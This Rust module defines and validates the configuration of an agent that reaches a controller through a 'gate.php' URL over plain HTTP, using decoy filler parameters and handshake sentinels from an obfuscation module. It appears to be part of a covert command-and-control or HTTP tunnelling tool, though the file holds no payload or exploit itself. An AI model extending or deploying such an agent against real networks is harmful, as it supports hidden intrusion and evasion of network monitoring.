//! Agent configuration.

use std::time::Duration;

use serde::{Deserialize, Serialize};

use crate::obfuscation::{DecoyConfig, SentinelSet};

/// Agent configuration (JSON file form).
#[derive(Debug, Clone, Serialize, Deserialize)]
pub struct AgentConfig {
    /// Full gate URL, e.g. `http://203.0.113.7/gate.php`
    pub controller_url: String,
    /// Compress outbound payloads
    #[serde(default)]
    pub compress: bool,
    /// Per-request timeout in milliseconds. Must outlast the controller's
    /// `CHECK_STREAM_DATA` wait.
    #[serde(default = "default_request_timeout")]
    pub request_timeout_ms: u64,
    /// Filler parameter shape
    #[serde(flatten)]
    pub decoys: DecoyConfig,
    /// Handshake sentinels; must match the controller's set
    #[serde(default)]
    pub sentinels: SentinelSet,
}

fn default_request_timeout() -> u64 {
    30_000
}

impl AgentConfig {
    /// Configuration with defaults for everything but the URL.
    pub fn new(controller_url: impl Into<String>) -> Self {
        Self {
            controller_url: controller_url.into(),
            compress: false,
            request_timeout_ms: default_request_timeout(),
            decoys: DecoyConfig::default(),
            sentinels: SentinelSet::default(),
        }
    }

    /// Per-request timeout.
    pub fn request_timeout(&self) -> Duration {
        Duration::from_millis(self.request_timeout_ms)
    }

    /// Validate the configuration.
    pub fn validate(&self) -> Result<(), String> {
        let url = reqwest::Url::parse(&self.controller_url)
            .map_err(|e| format!("Invalid controller_url: {}", e))?;

        // The channel carries its own encryption; it runs over plain HTTP only.
        if url.scheme() != "http" {
            return Err(format!(
                "controller_url scheme must be http, not {}",
                url.scheme()
            ));
        }
        if url.host_str().is_none() {
            return Err("controller_url has no host".into());
        }
        if self.request_timeout_ms == 0 {
            return Err("request_timeout_ms must be positive".into());
        }
        self.decoys.validate()
    }
}
